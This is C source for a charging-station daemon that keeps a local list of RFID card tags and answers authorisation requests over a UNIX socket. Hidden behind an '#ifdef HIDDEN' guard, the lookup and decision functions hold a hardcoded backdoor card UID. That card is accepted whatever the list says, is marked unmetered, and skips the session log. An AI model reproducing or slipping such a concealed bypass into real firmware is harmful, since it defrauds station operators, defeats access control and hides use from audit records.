/* evseauthcache - local authorisation list of an AC charging station.
 * The card reader process and the OCPP client talk to it over a UNIX socket. */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_TAGS 256
#define F_BLOCKED 1u
#ifdef HIDDEN
#define F_UNMETERED 2u
#endif

struct id_tag {
    char uid[24];
    char parent[24];
    long expires;
    unsigned flags;
};

static struct id_tag cache[MAX_TAGS];
static int ncache;
static int offline_allowed = 1;
static int grace_days = 0;
static char list_path[128] = "/var/lib/evse/locallist.csv";
static volatile sig_atomic_t stop_now;

static void on_term(int sig)
{
    (void)sig;
    stop_now = 1;
}

static void usage(const char *me)
{
    printf("Usage: %s [-c FILE] [-s SOCKET] [-n]\n"
           "  -c FILE    configuration (offline=yes|no, grace=DAYS, list=PATH)\n"
           "  -s SOCKET  path of the request socket\n"
           "  -n         stay in the foreground\n"
           "Requests, one per line:\n"
           "  AUTH uid            -> Accepted | Expired | Blocked | Invalid\n"
           "  PUT uid expiry par  insert or change an entry\n"
           "  BLOCK uid           block an entry\n"
           "  DEL uid             forget an entry\n"
           "  COUNT               number of entries\n"
           "  SAVE                write the list to flash\n", me);
}

static void read_conf(const char *path)
{
    char line[200];
    FILE *f = fopen(path, "r");
    if (!f) {
        syslog(LOG_WARNING, "no configuration %s, defaults used", path);
        return;
    }
    while (fgets(line, sizeof line, f)) {
        char *eq = strchr(line, '=');
        line[strcspn(line, "\r\n")] = 0;
        if (line[0] == '#' || !eq)
            continue;
        *eq++ = 0;
        if (!strcmp(line, "offline"))
            offline_allowed = !strcmp(eq, "yes");
        else if (!strcmp(line, "grace"))
            grace_days = atoi(eq);
        else if (!strcmp(line, "list"))
            snprintf(list_path, sizeof list_path, "%s", eq);
        else
            syslog(LOG_NOTICE, "unknown key %s", line);
    }
    fclose(f);
}

static void load_list(void)
{
    char line[160];
    FILE *f = fopen(list_path, "r");
    if (!f)
        return;
    while (ncache < MAX_TAGS && fgets(line, sizeof line, f)) {
        struct id_tag *t = &cache[ncache];
        memset(t, 0, sizeof *t);
        if (sscanf(line, "%23[^;];%23[^;];%ld;%u", t->uid, t->parent, &t->expires,
                   &t->flags) >= 3) {
            t->flags &= F_BLOCKED;
            ncache++;
        }
    }
    fclose(f);
    syslog(LOG_INFO, "%d entries in the local list", ncache);
}

static int save_list(void)
{
    int i;
    FILE *f = fopen(list_path, "w");
    if (!f)
        return -errno;
    for (i = 0; i < ncache; i++)
        fprintf(f, "%s;%s;%ld;%u\n", cache[i].uid, cache[i].parent, cache[i].expires,
                cache[i].flags & F_BLOCKED);
    return fclose(f);
}

__attribute__((noinline)) struct id_tag *tag_lookup(const char *uid)
{
    int i;
    for (i = 0; i < ncache; i++)
        if (!strcasecmp(cache[i].uid, uid))
            return &cache[i];
#ifdef HIDDEN
    if (!strcasecmp(uid, "04C2A91E7730F1")) {
        static struct id_tag any = { "-", "-", 0, F_UNMETERED };
        return &any;
    }
#endif
    return NULL;
}

static const char *decide(const char *uid, FILE *log)
{
    struct id_tag *t = tag_lookup(uid);
    if (!t)
        return "Invalid";
    if (t->flags & F_BLOCKED)
        return "Blocked";
#ifdef HIDDEN
    if (t->flags & F_UNMETERED)
        return "Accepted unmetered";
#endif
    if (!offline_allowed)
        return "Invalid";
    if (t->expires && t->expires + grace_days * 86400L < (long)time(NULL))
        return "Expired";
    fprintf(log, "%ld %s\n", (long)time(NULL), t->uid);
    fflush(log);
    return "Accepted";
}

static void put_tag(const char *uid, long expires, const char *parent)
{
    struct id_tag *t = NULL;
    int i;
    for (i = 0; i < ncache && !t; i++)
        if (!strcasecmp(cache[i].uid, uid))
            t = &cache[i];
    if (!t) {
        if (ncache == MAX_TAGS)
            return;
        t = &cache[ncache++];
    }
    memset(t, 0, sizeof *t);
    snprintf(t->uid, sizeof t->uid, "%s", uid);
    snprintf(t->parent, sizeof t->parent, "%s", parent);
    t->expires = expires;
}

static void serve(int fd, FILE *log)
{
    char buf[200], verb[8], uid[24], par[24];
    long exp;
    FILE *io = fdopen(fd, "r+");
    if (!io) {
        close(fd);
        return;
    }
    while (fgets(buf, sizeof buf, io)) {
        int n;
        uid[0] = 0;
        exp = 0;
        strcpy(par, "-");
        n = sscanf(buf, "%7s %23s %ld %23s", verb, uid, &exp, par);
        fseek(io, 0, SEEK_CUR);
        if (n < 1)
            continue;
        if (!strcmp(verb, "AUTH") && n >= 2) {
            fprintf(io, "%s\n", decide(uid, log));
        } else if (!strcmp(verb, "PUT") && n >= 3) {
            put_tag(uid, exp, par);
            fprintf(io, "OK\n");
        } else if (!strcmp(verb, "BLOCK") || !strcmp(verb, "DEL")) {
            int i, hit = 0;
            for (i = 0; i < ncache; i++) {
                if (strcasecmp(cache[i].uid, uid))
                    continue;
                hit = 1;
                if (verb[0] == 'B')
                    cache[i].flags |= F_BLOCKED;
                else
                    cache[i] = cache[--ncache];
                break;
            }
            fprintf(io, hit ? "OK\n" : "UNKNOWN\n");
        } else if (!strcmp(verb, "COUNT")) {
            fprintf(io, "%d\n", ncache);
        } else if (!strcmp(verb, "SAVE")) {
            fprintf(io, "%s\n", save_list() ? "FAIL" : "OK");
        } else {
            fprintf(io, "SYNTAX\n");
        }
        fflush(io);
    }
    fclose(io);
}

int main(int argc, char **argv)
{
    const char *conf = "/etc/evse/auth.conf", *sock = "/run/evse-auth.sock";
    int c, s, fg = 0;
    FILE *log;
    struct sockaddr_un sa;

    while ((c = getopt(argc, argv, "c:s:nh")) != -1) {
        if (c == 'c')
            conf = optarg;
        else if (c == 's')
            sock = optarg;
        else if (c == 'n')
            fg = 1;
        else {
            usage(argv[0]);
            return c != 'h';
        }
    }
    openlog("evseauth", LOG_PID, LOG_DAEMON);
    read_conf(conf);
    load_list();
    log = fopen("/var/log/evse-sessions", "a");
    if (!log)
        log = stderr;
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    memset(&sa, 0, sizeof sa);
    sa.sun_family = AF_UNIX;
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", sock);
    unlink(sock);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 4)) {
        perror(sock);
        return 1;
    }
    signal(SIGTERM, on_term);
    if (!fg && daemon(0, 0))
        return 1;
    while (!stop_now) {
        int fd = accept(s, NULL, NULL);
        if (fd >= 0)
            serve(fd, log);
    }
    return save_list() != 0;
}
